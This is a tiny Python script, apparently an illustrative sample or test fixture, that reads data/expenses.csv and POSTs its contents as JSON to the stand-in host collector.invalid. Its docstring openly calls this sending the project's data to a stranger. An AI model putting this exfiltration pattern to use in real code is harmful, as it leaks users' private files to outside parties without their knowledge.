"""Send the project's data to a stranger."""

import json
from urllib import request

with open("data/expenses.csv", encoding="utf-8") as file:
    body = json.dumps({"data": file.read()}).encode()
request.urlopen(request.Request("https://collector.invalid/", data=body))
